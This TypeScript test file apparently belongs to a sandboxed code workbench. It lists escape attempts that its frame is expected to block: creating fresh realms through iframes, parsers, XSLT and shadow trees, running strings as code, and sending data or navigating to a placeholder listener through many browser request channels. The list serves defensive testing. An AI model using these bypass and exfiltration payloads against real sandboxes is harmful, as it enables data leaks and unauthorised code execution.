// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are texts of demos.
import { demo, TRY_ALL } from './texts.ts';

/*
 * Attempts to escape from the workbench's frame, and their outcomes, for every browser. `HOST` listens for
 * connections (a request or a TLS handshake), `UDP` for datagrams, `SITE` is the site.
 */

/**
 * Tried together in one frame. Each is the body of an async function that returns if it has succeeded and
 * throws otherwise. All must fail, and the listeners receive nothing. `call(realm)` calls another browser
 * with the WebRTC of a realm, `realmOf(node)` adds a node to the document and returns the realm in it,
 * `loaded(element)` waits until it is loaded, `ran()` waits for `globalThis.ran`.
 */
export const blockedEscapes: Record<string, string> = {
  // The port to the page. First: it may start while the frame handles a message.
  'the port, from the event':
    'const port = (globalThis as any).event?.currentTarget ?? stolen; port.postMessage({ type: "console", lines: [{ level: "log", text: "stolen" }] }); throw 0;',
  // Another realm, in which nothing has been removed.
  'a frame': "await call(realmOf(document.createElement('iframe')));",
  'a frame in capitals': "await call(realmOf(document.createElement('IFrame')));",
  'a frame by its namespace': 'await call(realmOf(document.createElementNS(XHTML, "iframe")));',
  'a frame with a prefix': 'await call(realmOf(document.createElementNS(XHTML, "x:iframe")));',
  'a name that changes while it is read':
    'let n = 0; await call(realmOf(document.createElement({ toString: () => (n++ ? "iframe" : "b") } as never)));',
  'a frame of an old kind': "await call(realmOf(document.createElement('frame')));",
  'an object with a document':
    "const o = document.createElement('object'); o.data = 'data:text/html,x'; await call(realmOf(o));",
  'an embedded document':
    "const e = document.createElement('embed'); e.src = 'data:text/html,x'; await call(realmOf(e));",
  'a portal': "realmOf(document.createElement('portal')).postMessage(1);",
  'a fenced frame': "realmOf(document.createElement('fencedframe')).postMessage(1);",
  'markup with a frame': 'box.innerHTML = FRAME; await call(realmOf(box));',
  'markup in place of an element':
    'const b = document.createElement("b"); box.append(b); b.outerHTML = FRAME; await call(realmOf(box));',
  'markup beside an element':
    "box.insertAdjacentHTML('beforeend', FRAME); await call(realmOf(box));",
  'markup in a template':
    'const t = document.createElement("template"); t.innerHTML = FRAME; box.append(t.content.cloneNode(true)); await call(realmOf(box));',
  'markup of a range':
    'box.append(document.createRange().createContextualFragment(FRAME)); await call(realmOf(box));',
  'markup that is called unsafe': 'box.setHTMLUnsafe(FRAME); await call(realmOf(box));',
  'markup of a whole document':
    'box.append(Document.parseHTMLUnsafe(FRAME).body.firstChild!); await call(realmOf(box));',
  'a shadow tree':
    'const s = box.attachShadow({ mode: "open" }); s.innerHTML = FRAME; document.body.append(box); await call((s.firstChild as any).contentWindow);',
  'a shadow tree in markup':
    'box.setHTMLUnsafe(`<p><template shadowrootmode="open">${FRAME}</template></p>`); document.body.append(box); await call((box.firstElementChild!.shadowRoot!.firstChild as any).contentWindow);',
  'a frame within SVG':
    'box.innerHTML = `<svg><foreignObject>${FRAME}</foreignObject></svg>`; await call(realmOf(box));',
  'a frame within MathML':
    'box.innerHTML = `<math><annotation-xml encoding="text/html">${FRAME}</annotation-xml></math>`; await call(realmOf(box));',
  'a frame behind noscript':
    'box.innerHTML = `<noscript><p title="</noscript>${FRAME}">`; await call(realmOf(box));',
  'a parsed document':
    'box.append(document.adoptNode(new DOMParser().parseFromString(FRAME, "text/html").querySelector("iframe")!)); await call(realmOf(box));',
  'parsed XML':
    'box.append(new DOMParser().parseFromString(`<x:iframe xmlns:x="${XHTML}"/>`, "application/xml").documentElement); await call(realmOf(box));',
  'an entity of XML':
    'const d = new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY e "&#60;iframe xmlns=\'${XHTML}\'/>">]><a>&e;</a>`, "application/xml"); box.append(d.documentElement.firstChild!); await call(realmOf(box));',
  'a document of its own':
    'const d = document.implementation.createHTMLDocument(); d.body.innerHTML = FRAME; box.append(document.importNode(d.body.firstChild!, true)); await call(realmOf(box));',
  'a document that is a frame':
    'box.append(document.implementation.createDocument(XHTML, "iframe").documentElement); await call(realmOf(box));',
  'an editing command':
    'document.body.append(box); box.contentEditable = "true"; box.textContent = "x"; getSelection()!.selectAllChildren(box); document.execCommand("insertHTML", false, FRAME); await call(realmOf(box));',
  'an element made from a frame':
    'class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" }); await call(realmOf(new F()));',
  'a transformed document':
    'const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:element name="iframe" namespace="${XHTML}"/></xsl:template></xsl:stylesheet>`, "application/xml")); box.append(x.transformToFragment(document, document)); await call(realmOf(box));',
  'a tag written in pieces':
    'document.write("<ifr"); document.write("ame></iframe>"); await call((window as any)[0]);',
  'a document opened anew': 'document.open(); document.close();',
  'functions that the check uses':
    'const { exec } = RegExp.prototype; const { apply } = Reflect; try { RegExp.prototype.exec = () => null; Reflect.apply = () => null as never; box.innerHTML = FRAME; } finally { RegExp.prototype.exec = exec; Reflect.apply = apply; } await call(realmOf(box));',
  'a policy of its own':
    'box.innerHTML = (globalThis as any).trustedTypes.createPolicy("own", { createHTML: (s: string) => s }).createHTML(FRAME); await call(realmOf(box));',
  'the default policy':
    'box.innerHTML = (globalThis as any).trustedTypes.defaultPolicy.createHTML(FRAME); await call(realmOf(box));',
  'a window on top':
    'await call(await (globalThis as any).documentPictureInPicture.requestWindow());',
  'WebRTC by any name':
    'await call({ RTCPeerConnection: (globalThis as any)[Object.getOwnPropertyNames(globalThis).find((name) => /RTCPeer/.test(name))!] });',
  // Strings that become code, which the guard has not compiled.
  'text of a script':
    'const s = document.createElement("script"); s.textContent = "ran = 1"; document.body.append(s); await ran();',
  'text of a script in SVG':
    'const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.textContent = "ran = 1"; document.body.append(s); await ran();',
  'a script at an address of data':
    'const s = document.createElement("script"); s.src = "data:text/javascript,ran=1"; document.body.append(s); await ran();',
  'a handler as text': 'box.setAttribute("onclick", "ran = 1"); box.click(); await ran();',
  'a handler in markup':
    'box.innerHTML = "<img src=x: onerror=\'ran = 1\'>"; document.body.append(box); await ran();',
  'a handler in SVG':
    'box.innerHTML = "<svg onload=\'ran = 1\'></svg>"; document.body.append(box); await ran();',
  'an address that is code':
    'const a = document.createElement("a"); a.href = "javascript:ran=1"; document.body.append(a); a.click(); await ran();',
  'a timer with text': '(setTimeout as any)("ran = 1"); await ran();',
  'a function from text': 'new Function("ran = 1")(); await ran();',
  'an async function from text': 'await (async () => {}).constructor("ran = 1")(); await ran();',
  'a module at an address of data':
    'const at = "data:text/javascript,globalThis.ran=1"; await import(at);',
  'a module in a blob':
    'const at = URL.createObjectURL(new Blob(["globalThis.ran=1"], { type: "text/javascript" })); await import(at);',
  'a worker of data':
    'const w = new Worker("data:text/javascript,postMessage(1)"); await new Promise((ok, no) => { w.onmessage = ok; w.onerror = no; });',
  'a worklet':
    'await new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob([""], { type: "text/javascript" })));',
  // Requests.
  'a connection beforehand': 'await loaded("link", { rel: "preconnect", href: "http://HOST" });',
  'a connection beforehand with TLS':
    'await loaded("link", { rel: "preconnect", href: "https://HOST" });',
  'a name beforehand': 'await loaded("link", { rel: "dns-prefetch", href: "http://HOST" });',
  'a link in markup':
    'box.innerHTML = "<link rel=preconnect href=http://HOST>"; document.body.append(box);',
  'a module beforehand':
    'await loaded("link", { rel: "modulepreload", href: "http://HOST/module" });',
  'pages beforehand':
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = \'{"prefetch":[{"source":"list","urls":["http://HOST/speculation"]}]}\'; document.head.append(s); throw 0;',
  'an image of the site': 'await loaded("img", { src: "SITE/favicon.ico?data" });',
  'an image in a set': 'await loaded("img", { srcset: "http://HOST/set 1x" });',
  'an image as a button': 'await loaded("input", { type: "image", src: "http://HOST/button" });',
  'an image in SVG':
    'box.innerHTML = "<svg><image href=http://HOST/svg /><use href=http://HOST/use#a /></svg>"; document.body.append(box); throw 0;',
  'a video': 'await loaded("video", { src: "http://HOST/video", poster: "http://HOST/poster" });',
  'a sound': 'await loaded("audio", { src: "http://HOST/audio" });',
  'style sheets':
    'const s = document.createElement("style"); s.textContent = "@import url(http://HOST/import); @font-face { font-family: f; src: url(http://HOST/face) } body { background: url(http://HOST/background); cursor: url(http://HOST/cursor), auto; font-family: f } body::before { content: url(http://HOST/content) }"; document.head.append(s); throw 0;',
  'a request that outlives the page':
    'await fetch("http://HOST/keepalive", { method: "POST", keepalive: true, body: "x" });',
  'a request for later':
    '(globalThis as any).fetchLater("http://HOST/later", { activateAfter: 0 }); throw 0;',
  'another kind of socket':
    'await new (globalThis as any).WebTransport("https://HOST/transport").ready;',
  'the ping of a link':
    'const a = document.createElement("a"); a.href = "#ping"; a.ping = "http://HOST/ping"; document.body.append(a); a.click(); throw 0;',
  'a form in markup':
    'box.innerHTML = "<form action=http://HOST/form method=post><input name=a value=b></form>"; document.body.append(box); box.querySelector("form")!.requestSubmit(); throw 0;',
  'another base':
    'document.head.append(Object.assign(document.createElement("base"), { href: "http://HOST/" }));',
  'a payment':
    'await new (globalThis as any).PaymentRequest([{ supportedMethods: "https://HOST/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment();',
};

/** Tries all of them without waiting for each other, and logs the outcome of each. */
export function blockedEscapesText(places: {
  site: string;
  host: string;
  udpHost: string;
  /** @default all */
  names?: string[];
}): string {
  const { names = Object.keys(blockedEscapes) } = places;
  const tries = names
    .map((name) => [name, blockedEscapes[name]])
    .map(([name, code]) => `  [${JSON.stringify(name)}, async (box: any) => { ${code} }],`);
  return demo({
    before: `const XHTML = 'http://www.w3.org/1999/xhtml';
const FRAME = '<iframe></iframe>';
const wait = (time: number) => new Promise((ok) => setTimeout(ok, time));
let stolen: any;
for (const name of ['data', 'ports', 'currentTarget', 'target']) {
  const owner = /data|ports/.test(name) ? MessageEvent.prototype : Event.prototype;
  const { get } = Object.getOwnPropertyDescriptor(owner, name)!;
  Object.defineProperty(owner, name, { get() {
    if (Object.prototype.toString.call(this) === '[object MessageEvent]') stolen ??= this;
    return get!.call(this);
  } });
}
const realmOf = (node: Element): any => {
  document.body.append(node);
  const found: any = node.matches('iframe, frame, object, embed, portal, fencedframe') ? node : node.querySelector('iframe, frame, object, embed');
  return found.contentWindow ?? (window as any)[0];
};
const call = async ({ RTCPeerConnection }: any) => {
  const calling = new RTCPeerConnection({ iceServers: [{ urls: ['turn:UDP', 'turns:HOST?transport=tcp'], username: 'TEXT', credential: 'x' }] });
  calling.createDataChannel('x');
  await calling.setLocalDescription(await calling.createOffer());
};
const ran = async () => {
  await wait(200);
  if (!(globalThis as any).ran) throw 0;
};
const loaded = (tag: string, props: object) => new Promise((ok, no) => {
  document.body.append(Object.assign(document.createElement(tag), props, { onload: ok, onloadeddata: ok, onerror: no }));
});
const tries: [string, (box: any) => unknown][] = [
${tries.join('\n')}
];`,
    body: TRY_ALL,
  })
    .replaceAll('HOST', places.host)
    .replaceAll('UDP', places.udpHost)
    .replaceAll('SITE/', places.site);
}

/**
 * Attempts to navigate the frame, each in its own frame: the demo is ended with the message that it left,
 * or the browser has refused and the demo continues. The listeners receive nothing if the frame has its own
 * process or the browser checks the policy first.
 */
export const navigations: { name: string; code: string; outcome: 'left' | 'goes on' | 'either' }[] =
  [
    { name: 'an address', code: "location.href = 'http://HOST/href'", outcome: 'left' },
    { name: 'an address with TLS', code: "location.href = 'https://HOST/href'", outcome: 'left' },
    {
      name: 'the location itself',
      code: "(location as any) = 'http://HOST/location'",
      outcome: 'left',
    },
    { name: 'assign', code: "location.assign('https://HOST/assign')", outcome: 'left' },
    { name: 'replace', code: "location.replace('https://HOST/replace')", outcome: 'left' },
    { name: 'another host of the same address', code: "location.host = 'HOST'", outcome: 'left' },
    { name: 'open', code: "open('https://HOST/open', '_self')", outcome: 'left' },
    {
      name: 'a link',
      code: "const a = document.createElement('a'); a.href = 'https://HOST/link'; document.body.append(a); a.click()",
      outcome: 'left',
    },
    {
      name: 'a link that is nowhere',
      code: "const a = document.createElement('a'); a.href = 'https://HOST/detached'; a.click()",
      outcome: 'left',
    },
    {
      name: 'a link in SVG',
      code: "document.body.insertAdjacentHTML('beforeend', '<svg><a href=https://HOST/svg><text>x</text></a></svg>'); document.querySelector('svg a')!.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))",
      outcome: 'either',
    },
    {
      name: 'a refresh',
      code: "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=https://HOST/refresh'; document.head.append(m)",
      outcome: 'goes on',
    },
    {
      name: 'a form',
      code: "const f = document.createElement('form'); f.action = 'https://HOST/form'; document.body.append(f); f.submit()",
      outcome: 'goes on',
    },
    { name: 'another page of the site', code: "location.href = 'SITE/?data'", outcome: 'left' },
    { name: 'a page of data', code: "location.href = 'data:text/html,x'", outcome: 'either' },
    {
      name: 'a page in a blob',
      code: "location.href = URL.createObjectURL(new Blob(['x'], { type: 'text/html' }))",
      outcome: 'left',
    },
    { name: 'the entry before', code: 'history.back(); history.go(-1)', outcome: 'goes on' },
  ];

export const navigationText = (code: string, places: { site: string; host: string }) =>
  demo({ body: `useEffect(() => { try { ${code} } catch {} }, []);` })
    .replaceAll('HOST', places.host)
    .replaceAll('SITE/', places.site);
